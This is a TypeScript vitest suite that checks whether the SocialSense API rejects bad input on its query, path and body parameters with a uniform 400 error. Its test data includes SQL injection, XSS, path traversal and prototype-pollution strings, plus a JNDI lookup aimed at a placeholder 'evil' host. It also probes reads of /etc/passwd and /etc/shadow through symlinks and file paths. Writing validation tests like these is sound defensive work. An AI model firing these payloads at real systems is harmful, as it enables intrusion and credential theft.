import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importPath } from '../../api/routes/control';
import { ApiError } from '../../api/http';
import type { Stack } from '../../lib/stack';
import { bearer, buildTestApi, createTestKeys, type TestKeys } from '../helpers/apiApp';
import { requireStack } from '../helpers/stack';

/**
 * Bad input on every parameter: injection strings, wrong types, out-of-range values, malformed,
 * oversized and wrongly typed bodies. Each must get a 400 in the API's one error shape, never a 500,
 * and must not start anything. Free-text parameters (post search `q`, a platform `query`, a key name)
 * take quotes literally: there the injection strings are searched for / stored as text, which is
 * checked too. The calls use an admin key, so no refusal is an authorization one.
 */

let stack: Stack;
let app: FastifyInstance;
let keys: TestKeys;
const taskQueue = `test-api-input-${crypto.randomUUID().slice(0, 8)}`;

const INJECTIONS = [
  "' OR '1'='1",
  '1; DROP TABLE runs; --',
  '" OR ""="',
  "1' UNION SELECT hash FROM api_keys --",
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '${jndi:ldap://evil/a}',
  '{"$gt": ""}',
  'x\u0000y',
  'line\r\nInjected-Header: 1',
  'a'.repeat(5000),
];

/** the refusal of a text that arrived as bytes that are not UTF-8 */
const UTF8_FIX = (where: string, got: string) =>
  `${where} is not UTF-8: it holds bytes that decode to U+FFFD (the replacement character); send the text UTF-8 encoded (percent-encode its UTF-8 bytes in a URL), got ${got}`;

const expect400 = (res: LightMyRequestResponse, what: string) => {
  expect(res.statusCode, `${what}: ${res.body.slice(0, 200)}`).toBe(400);
  const body = res.json();
  expect(Object.keys(body), what).toEqual(['error']);
  expect(body.error).toMatchObject({ status: 400, code: expect.stringMatching(/^(invalid_request|body_too_large)$/) });
  expect(body.error.message.length, what).toBeGreaterThan(5);
  expect(typeof body.error.requestId).toBe('string');
};

beforeAll(async () => {
  stack = await requireStack();
  keys = await createTestKeys(stack, `input-${taskQueue}`);
  // hundreds of calls with one key: the rate limit (tested elsewhere) would answer 429 before validation
  app = await buildTestApi(stack, taskQueue, { rateLimit: { max: 100_000, timeWindowMs: 60_000 } });
});

afterAll(async () => {
  await app?.close();
  await keys?.cleanup();
  await stack?.close();
});

const admin = () => bearer(keys.byRole.admin.key);
const get = (url: string, query?: Record<string, string>) => app.inject({ method: 'GET', url, query, headers: admin() });

/** Query parameters of every list and insight route, each with extra bad values of its own. */
const QUERY_PARAMS: Record<string, Record<string, string[]>> = {
  '/v1/runs': {
    kind: ['nope'],
    status: ['done'],
    limit: ['0', '201', '-1', '1.5', '1e3', 'ten'],
    cursor: ['!!', 'AAAA', Buffer.from('[1]').toString('base64url')],
  },
  '/v1/posts': {
    from: ['2024-02-30', '2023-13-01', '24-01-01', '2024-1-1', 'yesterday', '2024-01-01T00:00:00Z'],
    to: ['2024-02-30', 'today'],
    platform: ['X Corp', 'x.com', '-x', '\ufffd'],
    author: ['has space', '-x', ''],
    topic: ['-1', 'one', '1.5', '100001'],
    sentiment: ['happy', 'POSITIVE'],
    hashtag: ['two words', '#a#b', '#'],
    run: ['has space', '-leading-dash'],
    limit: ['0', '1000'],
    cursor: ['AAAA', Buffer.from('["x","y"]').toString('base64url'), Buffer.from('[1,2,3]').toString('base64url')],
  },
  '/v1/trends': { run: ['has space'], kind: ['tag'], limit: ['0', '101'] },
  '/v1/topics': { run: ['has space'] },
  '/v1/segments': { run: ['has space'] },
  '/v1/models': { name: ['Sentiment!', 'a b'], status: ['live'], limit: ['0'], cursor: [Buffer.from('[1,"x"]').toString('base64url')] },
  '/v1/datasets': { stage: ['Clean', 'a b'], source: ['X Corp'], run: ['has space'], from: ['2024-02-30'], to: ['2024-02-31'], limit: ['0'], cursor: ['AAAA'] },
  '/v1/audit': { limit: ['0'], cursor: [Buffer.from('["x"]').toString('base64url')] },
  '/v1/users/u1/recommendations': { limit: ['0', '51'] },
};

/** Path parameters, by a URL template with `{}` where the parameter goes. */
const PATH_PARAMS: Array<{ method: 'GET' | 'POST' | 'DELETE'; template: string; extra: string[] }> = [
  { method: 'GET', template: '/v1/runs/{}', extra: ['-x', 'a b'] },
  { method: 'GET', template: '/v1/runs/{}/report', extra: ['-x'] },
  { method: 'GET', template: '/v1/users/{}/recommendations', extra: ['a b', '.hidden'] },
  { method: 'GET', template: '/v1/datasets/{}/download', extra: ['0', '-1', '1.5', 'abc', '99999999999999999999'] },
  { method: 'GET', template: '/v1/backfills/{}', extra: ['pipeline-x', 'backfill-'] },
  { method: 'POST', template: '/v1/backfills/{}/pause', extra: ['pipeline-x'] },
  { method: 'POST', template: '/v1/backfills/{}/resume', extra: ['pipeline-x'] },
  { method: 'POST', template: '/v1/backfills/{}/cancel', extra: ['pipeline-x'] },
  { method: 'DELETE', template: '/v1/keys/{}', extra: ['0', 'abc', '1;2'] },
];

/** JSON bodies: a valid one and, per field, values that must be refused. */
const BODIES: Array<{ url: string; valid: Record<string, unknown>; bad: Record<string, unknown[]>; freeText?: string[] }> = [
  {
    url: '/v1/runs',
    valid: { source: 'simulated', date: '2021-02-01', posts: 10 },
    bad: {
      source: ['nope', 'SIMULATED', 1, null, ['simulated']],
      date: ['2021-02-30', '2021/02/01', 20210201, true],
      days: [0, 367, 1.5, '2', true, -1],
      posts: [0, 1_000_001, '10', true, 1.5, {}],
      seed: [-1, 2 ** 31, 'x'],
      users: [0, 'x'],
      languages: ['en', ['english'], ['e n'], [1]],
      maxQuarantinedShare: [-0.1, 1.1, '0.5'],
      since: ['2021-02-30'],
      until: ['x'],
      file: [
        'posts.csv',
        { mapping: {} },
        { path: '' },
        { path: 'a\u0000b' },
        { path: 'p.csv', extra: 1 },
        { path: 'p.csv', mapping: { text: 1 } },
        { path: 'p.csv', mapping: { txt: 'text' } }, // not a post field: refused here, not by the worker
        { path: 'p.csv', platform: 'X Corp' },
      ],
      unknownField: [1],
    },
    freeText: ['query'],
  },
  {
    url: '/v1/collections',
    valid: { source: 'simulated', since: '2021-02-01', until: '2021-02-02', maxPosts: 10 },
    bad: {
      source: ['file', 'nope', null],
      since: ['2021-02-30', 5],
      until: ['2021-13-01'],
      maxPosts: [0, 'many'],
      query: ['', 'a\u0007b', 'q'.repeat(201)],
      extra: [true],
    },
    freeText: ['query'],
  },
  {
    url: '/v1/backfills',
    valid: { from: '2021-02-01', to: '2021-02-02', posts: 10 },
    bad: { from: ['2021-02-30', null, 1], to: ['2021/02/02'], source: ['file', 'x y'], concurrency: [0, 65, 'four'], posts: [0, false], pipeline: [{}] },
  },
  {
    url: '/v1/retrain',
    valid: { date: '2021-02-01', days: 2, posts: 10 },
    bad: {
      date: ['2021-02-29'],
      days: [0, 400],
      source: ['myspace', 'FILE'],
      posts: ['x'],
      topics: [1, 201],
      sentimentTrainFile: ['', 'a\u0000b'],
      force: [true],
    },
  },
  {
    url: '/v1/keys',
    valid: { role: 'viewer', name: 'input-test' },
    bad: { role: ['root', 'Admin', '', null, ['admin']], name: ['', 'x'.repeat(101), 'two\nlines', 42], key: ['ssk_0000000000000000_' + 'A'.repeat(43)] },
  },
];

describe('bad input gets 400 in one shape, never 500', () => {
  it('query parameters: injection strings and out-of-range values on every parameter, and unknown parameters', async () => {
    let checked = 0;
    for (const [url, params] of Object.entries(QUERY_PARAMS)) {
      for (const [param, extra] of Object.entries(params)) {
        for (const value of [...INJECTIONS, ...extra]) {
          expect400(await get(url, { [param]: value }), `${url}?${param}=${JSON.stringify(value.slice(0, 40))}`);
          checked++;
        }
      }
      expect400(await get(url, { nosuchparameter: '1' }), `${url} with an unknown parameter`);
    }
    expect(checked).toBeGreaterThan(250);
  });

  it('path parameters: injection strings and malformed ids on every parameter', async () => {
    for (const p of PATH_PARAMS) {
      for (const value of [...INJECTIONS, ...p.extra]) {
        const url = p.template.replace('{}', encodeURIComponent(value));
        const res = await app.inject({ method: p.method, url, headers: admin() });
        expect400(res, `${p.method} ${url.slice(0, 80)}`);
      }
    }
  });

  it('JSON bodies: injection strings and wrong types on every field, unknown fields, and no workflow started', async () => {
    for (const b of BODIES) {
      const fields = Object.keys(b.bad);
      for (const field of fields) {
        const values = [...b.bad[field], ...(b.freeText?.includes(field) ? [] : INJECTIONS.filter(() => field !== 'name'))];
        for (const value of values) {
          const res = await app.inject({ method: 'POST', url: b.url, headers: admin(), payload: { ...b.valid, [field]: value } });
          expect400(res, `POST ${b.url} ${field}=${JSON.stringify(value)?.slice(0, 60)}`);
        }
      }
    }
    // nothing reached Temporal: no workflow was started on this test's task queue
    const started = stack.client.workflow.list({ query: `TaskQueue = "${taskQueue}"` });
    const ids: string[] = [];
    for await (const w of started) ids.push(w.workflowId);
    expect(ids).toEqual([]);
  });

  it('malformed, oversized and mistyped bodies', async () => {
    const post = (payload: string | Buffer, contentType = 'application/json') =>
      app.inject({ method: 'POST', url: '/v1/runs', headers: { ...admin(), 'content-type': contentType }, payload });
    expect400(await post('{"source": "simulated",'), 'truncated JSON');
    expect400(await post('{source: simulated}'), 'not JSON');
    expect400(await post('[]'), 'an array');
    expect400(await post('"simulated"'), 'a string');
    expect400(await post('null'), 'null');
    expect400(await post('{"__proto__": {"admin": true}}'), 'prototype pollution');
    expect400(await post('{"constructor": {"prototype": {"x": 1}}}'), 'constructor pollution');
    expect400(await post('{"source": "simulated"}', 'text/plain'), 'text/plain');
    expect400(await post('source=simulated', 'application/x-www-form-urlencoded'), 'a form');
    expect400(await post(Buffer.from([0xff, 0xfe, 0x00, 0x7b])), 'bytes that are not UTF-8 JSON');
    const big = await post(JSON.stringify({ source: 'simulated', query: 'x'.repeat(200), padding: 'y'.repeat(100 * 1024) }));
    expect400(big, 'a 100 KiB body');
    expect(big.json().error.code).toBe('body_too_large');
    const deep = '{"file":'.repeat(2000) + '{}' + '}'.repeat(2000);
    expect400(await post(deep), 'deeply nested JSON');
    // the same for the other body routes
    for (const url of ['/v1/collections', '/v1/backfills', '/v1/retrain', '/v1/keys']) {
      expect400(
        await app.inject({ method: 'POST', url, headers: { ...admin(), 'content-type': 'application/json' }, payload: '{"a":' }),
        `${url} truncated JSON`,
      );
      expect400(await app.inject({ method: 'POST', url, headers: admin(), payload: { unexpected: 1 } }), `${url} unknown field`);
    }
  });

  it('a refused value is answered with what to send instead', async () => {
    const message = async (res: Promise<LightMyRequestResponse>) => {
      const r = await res;
      expect400(r, r.body);
      return r.json().error.message as string;
    };
    const postRun = (payload: unknown, contentType = 'application/json') =>
      app.inject({ method: 'POST', url: '/v1/runs', headers: { ...admin(), 'content-type': contentType }, payload: JSON.stringify(payload) });
    const cases: Array<[Promise<LightMyRequestResponse>, unknown]> = [
      [get('/v1/posts', { from: 'yesterday' }), 'querystring/from must be a date as YYYY-MM-DD (UTC), e.g. 2026-11-24, got "yesterday"'],
      [get('/v1/posts', { sentiment: 'happy' }), 'querystring/sentiment must be one of "positive", "neutral", "negative", "unscored", got "happy"'],
      [
        get('/v1/posts', { platform: 'X Corp' }),
        'querystring/platform does not have the expected form (platform, e.g. x, mastodon or file; upper case is read as lower case): it must match ^[A-Za-z][A-Za-z0-9_-]{0,31}$, got "X Corp"',
      ],
      [get('/v1/posts', { limit: '1000' }), 'querystring/limit must be <= 200 (items per page (1–200)), got 1000'],
      [
        get('/v1/posts', { colour: 'red' }),
        'querystring has an unknown parameter "colour"; the parameters are from, to, platform, topic, sentiment, hashtag, q, run, author, limit, cursor',
      ],
      [
        postRun({ source: 'nope' }),
        'body/source must be one of "simulated", "file", "x", "facebook", "instagram", "mastodon", "bluesky", "reddit", got "nope"',
      ],
      [postRun({ source: 'simulated', date: '2021/02/01' }), 'body/date must be a date as YYYY-MM-DD (UTC), e.g. 2026-11-24, got "2021/02/01"'],
      [
        postRun({ source: 'file', file: { path: 'posts.csv', mapping: { txt: 'text' } } }),
        'body/file/mapping must be one of "id", "text", "title", "created_at", "author_id", "author_handle", "followers", "lang", "url", "likes", "reposts", "replies", got "txt"',
      ],
      [postRun({ source: 'simulated', days: 0 }), 'body/days must be >= 1, got 0'],
      [
        postRun({ source: 'simulated', date: '2099-06-01', posts: 20 }),
        expect.stringMatching(/^body\/date: 2099-06-01 is in the future: days up to \d{4}-\d{2}-\d{2} \(tomorrow, UTC\) can hold posts$/),
      ],
      [
        app.inject({ method: 'POST', url: '/v1/backfills', headers: admin(), payload: { from: '1990-01-01', to: '1990-01-02', posts: 20 } }),
        'body/from: 1990-01-01 is before 2004-01-01, the earliest day SocialSense reads posts of',
      ],
      [
        app.inject({ method: 'POST', url: '/v1/retrain', headers: admin(), payload: { date: '2062-11-30' } }),
        expect.stringMatching(/^body\/date: 2062-11-30 is in the future/),
      ],
      [
        app.inject({ method: 'POST', url: '/v1/collections', headers: admin(), payload: { source: 'simulated', until: '2099-05-02' } }),
        expect.stringMatching(/^body\/until: 2099-05-02 is in the future/),
      ],
      [
        postRun({ source: 'simulated', mystery: 1 }),
        'body has an unknown field "mystery"; the fields are source, date, days, posts, seed, users, query, since, until, languages, maxQuarantinedShare, file',
      ],
      [postRun({ source: 'simulated' }, 'text/plain'), 'the request body must be a JSON object, sent with Content-Type: application/json'],
      // bytes that are not UTF-8 decode to U+FFFD: refused, not searched for or collected as another text
      [app.inject({ method: 'GET', url: '/v1/posts?q=%FF%FE', headers: admin() }), UTF8_FIX('querystring/q', '"\ufffd\ufffd"')],
      [app.inject({ method: 'GET', url: '/v1/posts?q=caf%E9', headers: admin() }), UTF8_FIX('querystring/q', '"caf\ufffd"')],
      [
        app.inject({
          method: 'POST',
          url: '/v1/runs',
          headers: { ...admin(), 'content-type': 'application/json' },
          payload: Buffer.concat([Buffer.from('{"source":"mastodon","query":"caf'), Buffer.from([0xe9]), Buffer.from('"}')]),
        }),
        UTF8_FIX('body/query', '"caf\ufffd"'),
      ],
      [
        get('/v1/posts', { q: 'two\nlines' }),
        'querystring/q must be one line of printable text: remove its control characters (newline, tab, NUL, ...), got "two\\nlines"',
      ],
      [
        postRun({ source: 'mastodon', query: 'tab\there' }),
        'body/query must be one line of printable text: remove its control characters (newline, tab, NUL, ...), got "tab\\there"',
      ],
      [postRun(['simulated']), 'the request body must be a JSON object, sent with Content-Type: application/json'],
    ];
    for (const [res, expected] of cases) expect(await message(res)).toEqual(expected);
  });

  it('free text is searched for literally: an injection string finds nothing and breaks nothing', async () => {
    const { rows } = await stack.db.query(`SELECT count(*)::int AS n FROM post_scores`);
    for (const q of INJECTIONS.filter((v) => !/[\u0000-\u001f]/.test(v) && v.length <= 200)) {
      const res = await get('/v1/posts', { q });
      expect(res.statusCode, q).toBe(200);
      for (const p of res.json().items) expect(p.text.toLowerCase()).toContain(q.toLowerCase());
    }
    // `%` and `_` are not wildcards: a search for them finds only posts that contain them
    for (const q of ['%', '_', '\\']) {
      const res = await get('/v1/posts', { q, limit: '200' });
      expect(res.statusCode).toBe(200);
      for (const p of res.json().items) expect(p.text).toContain(q);
    }
    // control characters and over-long text are refused
    expect400(await get('/v1/posts', { q: 'a\u0000b' }), 'q with NUL');
    expect400(await get('/v1/posts', { q: 'q'.repeat(201) }), 'q of 201 characters');
    expect((await stack.db.query(`SELECT count(*)::int AS n FROM post_scores`)).rows[0].n).toBeGreaterThanOrEqual(rows[0].n);
  });

  it('a key name is stored as the text given, quotes and all', async () => {
    const name = "Robert'); DROP TABLE api_keys; --";
    const res = await app.inject({ method: 'POST', url: '/v1/keys', headers: admin(), payload: { role: 'viewer', name } });
    expect(res.statusCode).toBe(201);
    const id = res.json().id;
    keys.ids.push(id);
    expect((await stack.db.query(`SELECT name FROM api_keys WHERE id = $1`, [id])).rows[0].name).toBe(name);
  });

  it('a platform backfill needs its query, and only a platform takes one: refused before anything starts', async () => {
    const post = (payload: Record<string, unknown>) => app.inject({ method: 'POST', url: '/v1/backfills', headers: admin(), payload });
    const noQuery = await post({ from: '2021-03-01', to: '2021-03-02', source: 'mastodon' });
    expect400(noQuery, 'mastodon without a query');
    expect(noQuery.json().error.message).toBe('source "mastodon" needs a query for its days (search terms, hashtag, page or subreddit)');
    const blank = await post({ from: '2021-03-01', to: '2021-03-02', source: 'reddit', query: '   ' });
    expect400(blank, 'a blank query');
    const simulated = await post({ from: '2021-03-01', to: '2021-03-02', source: 'simulated', query: 'climate' });
    expect400(simulated, 'a query for simulated');
    expect(simulated.json().error.message).toMatch(/^a query is for platform sources \(x, facebook, instagram, mastodon, bluesky, reddit\), not "simulated"$/);
  });

  it('file.format takes json and ndjson (read as jsonl), and refuses a format it cannot read with the names it can', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'api-format-'));
    const withImports = await buildTestApi(stack, taskQueue, { rateLimit: { max: 100_000, timeWindowMs: 60_000 }, importDir: dir });
    try {
      fs.writeFileSync(path.join(dir, 'tweets-backup'), JSON.stringify([{ id: 'f1', text: 'hi', created_at: '2024-05-01T10:00:00Z' }]));
      for (const [given, read] of [
        ['json', 'jsonl'],
        ['ndjson', 'jsonl'],
        ['tsv', 'tsv'],
      ]) {
        const res = await withImports.inject({
          method: 'POST',
          url: '/v1/runs',
          headers: admin(),
          payload: { source: 'file', date: '2024-05-01', file: { path: 'tweets-backup', format: given, platform: `fmt-${given}` } },
        });
        expect(res.statusCode, res.body).toBe(202);
        const handle = stack.client.workflow.getHandle(res.json().workflowId);
        const history = await handle.fetchHistory();
        const started = history.events?.[0]?.workflowExecutionStartedEventAttributes;
        const input = JSON.parse(Buffer.from(started!.input!.payloads![0].data!).toString()) as { file: { format: string } };
        expect(input.file.format).toBe(read);
        await handle.terminate('api-input test: only the accepted input is checked');
      }
      const refused = await withImports.inject({
        method: 'POST',
        url: '/v1/runs',
        headers: admin(),
        payload: { source: 'file', file: { path: 'tweets-backup', format: 'xlsx' } },
      });
      expect400(refused, 'format xlsx');
      expect(refused.json().error.message).toMatch(/csv.*tsv.*jsonl.*json.*ndjson/);
    } finally {
      await withImports.close();
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  it('files named in control calls must be inside the import folder, and are refused when none is configured', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'api-import-'));
    try {
      fs.writeFileSync(path.join(dir, 'posts.csv'), 'id,text\n1,hi\n');
      fs.symlinkSync('/etc/passwd', path.join(dir, 'escape.csv'));
      const real = fs.realpathSync(dir);
      fs.mkdirSync(path.join(dir, 'sub'));
      fs.writeFileSync(path.join(dir, 'sub', 'now.csv'), 'id,text\n2,hey\n');
      fs.symlinkSync(path.join(dir, 'sub', 'now.csv'), path.join(dir, 'alias.csv'));
      expect(importPath(dir, 'posts.csv', 'file.path')).toBe(path.join(real, 'posts.csv'));
      expect(importPath(dir, path.join(dir, 'sub', 'now.csv'), 'file.path')).toBe(path.join(real, 'sub', 'now.csv'));
      // a link inside the folder: the worker is given the file it points to, so swapping the link later changes nothing
      expect(importPath(dir, 'alias.csv', 'file.path')).toBe(path.join(real, 'sub', 'now.csv'));
      for (const outside of ['../posts.csv', '/etc/passwd', 'sub/../../x.csv', 'escape.csv', dir]) {
        expect(() => importPath(dir, outside, 'file.path'), outside).toThrow(ApiError);
      }
      // a name with nothing there yet is refused: it could be made a link to any file before a worker opened it
      expect(() => importPath(dir, 'sub/later.csv', 'file.path')).toThrow(
        `file.path: "sub/later.csv" is not a file in the import folder ${dir}: put it there first`,
      );
      expect(() => importPath(dir, 'sub', 'file.path')).toThrow(/is not a file in the import folder/);
      expect(() => importPath(dir, '/etc/passwd', 'file.path')).toThrow(`file.path: "/etc/passwd" is outside the import folder ${dir}`);
      expect(() => importPath(null, 'posts.csv', 'file.path')).toThrow(/SOCIALSENSE_API_IMPORT_DIR/);
      // through the API (no import folder configured): 400, nothing started
      const res = await app.inject({ method: 'POST', url: '/v1/runs', headers: admin(), payload: { source: 'file', file: { path: '/etc/passwd' } } });
      expect400(res, 'file import of /etc/passwd');
      expect(res.json().error.message).toContain('SOCIALSENSE_API_IMPORT_DIR');
      expect400(
        await app.inject({ method: 'POST', url: '/v1/retrain', headers: admin(), payload: { date: '2021-02-01', sentimentTrainFile: '/etc/shadow' } }),
        'training file /etc/shadow',
      );
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
